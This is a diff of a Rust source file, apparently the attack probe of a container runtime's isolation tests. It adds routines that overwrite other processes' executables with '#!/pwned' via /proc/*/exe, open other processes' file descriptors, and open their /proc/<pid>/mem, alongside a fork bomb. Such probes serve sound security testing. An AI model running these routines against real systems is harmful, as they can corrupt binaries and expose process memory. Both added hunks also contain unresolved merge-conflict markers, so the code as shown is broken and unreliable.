@@ -1,9 +1,9 @@
 //! Longer parts that the probe plays: catching signals, filling memory, forking, attacking.
 
 use super::raw;
-use std::fs::{self, OpenOptions};
+use std::fs::{self, File, OpenOptions};
 use std::io::Write;
-use std::os::unix::fs::OpenOptionsExt;
+use std::os::fd::AsRawFd;
 use std::process::ExitCode;
 use std::time::Duration;
 
@@ -79,12 +79,15 @@ pub(crate) fn fork_bomb() -> ExitCode {
     }
 }
 
-/// Opens every executable it can see for writing, again and again; says what it managed.
+/// Collects every executable that is not the container's own, and tries to write to each, again and again:
+/// a running one cannot be written (ETXTBSY), but one that was held open can be later.
 pub(crate) fn exe_attack() -> ExitCode {
+    let mut held: Vec<(File, String)> = Vec::new();
     say("ready");
     loop {
         for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
             let exe = entry.path().join("exe");
+<<<<<<< HEAD
             let Ok(target) = fs::read_link(&exe) else {
                 continue;
             };
@@ -99,34 +102,62 @@ pub(crate) fn exe_attack() -> ExitCode {
                 .is_ok()
             {
                 say(&format!("WROTE {}", target.display()));
+=======
+            let Ok(file) = File::open(&exe) else { continue };
+            // The process may have executed something else in between: what was opened counts.
+            let own = format!("/proc/self/fd/{}", file.as_raw_fd());
+            let Ok(target) = fs::read_link(own) else { continue };
+            let target = target.to_string_lossy().into_owned();
+            if !target.starts_with("/bin/") && held.len() < 200 {
+                say(&format!("saw {target}"));
+                held.push((file, target));
+            }
+        }
+        for (file, target) in &held {
+            let again = format!("/proc/self/fd/{}", file.as_raw_fd());
+            let Ok(mut file) = OpenOptions::new().write(true).open(again) else { continue };
+            if file.write_all(b"#!/pwned\n").is_ok() {
+                say(&format!("WROTE {target}"));
+>>>>>>> tests
             }
         }
     }
 }
 
-/// Looks into the descriptors of every other process and tries to attach to it.
+/// Looks into the descriptors and the memory of every other process.
 pub(crate) fn fd_attack() -> ExitCode {
-    const PTRACE_SEIZE: i64 = 0x4206;
     say("ready");
     let own = std::process::id().to_string();
     loop {
         for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
             let name = entry.file_name().to_string_lossy().into_owned();
+<<<<<<< HEAD
             let Ok(pid) = name.parse::<i64>() else {
                 continue;
             };
             if name == own {
+=======
+            if name == own || name.parse::<u32>().is_err() {
+>>>>>>> tests
                 continue;
             }
-            let command = fs::read_to_string(entry.path().join("comm")).unwrap_or_default();
-            if command.trim() == "true" {
+            // What runs after execve is the container's own: only the runtime's process is a find.
+            let name = || fs::read_to_string(entry.path().join("comm")).unwrap_or_default();
+            let before = name();
+            if before.is_empty() || before == "true\n" {
                 continue;
             }
-            if fs::read_dir(entry.path().join("fd")).is_ok_and(|mut fds| fds.next().is_some()) {
-                say(&format!("OPENED {pid} {}", command.trim()));
+            say(&format!("saw {}", before.trim()));
+            // Root may list the numbers of any process with its uid; following one is what PTRACE_MODE_READ guards.
+            let mut fds = fs::read_dir(entry.path().join("fd")).into_iter().flatten().flatten();
+            let opened = fds.any(|fd| fs::read_link(fd.path()).is_ok() || File::open(fd.path()).is_ok());
+            if opened && name() == before {
+                say(&format!("OPENED {}", before.trim()));
             }
-            if raw::call(libc::SYS_ptrace, [PTRACE_SEIZE, pid, 0, 0, 0, 0]) >= 0 {
-                say(&format!("TRACED {pid} {}", command.trim()));
+            // The kernel asks for this the same right as for PTRACE_ATTACH, and nothing hangs on it.
+            let traced = OpenOptions::new().read(true).write(true).open(entry.path().join("mem")).is_ok();
+            if traced && name() == before {
+                say(&format!("TRACED {}", before.trim()));
             }
         }
     }
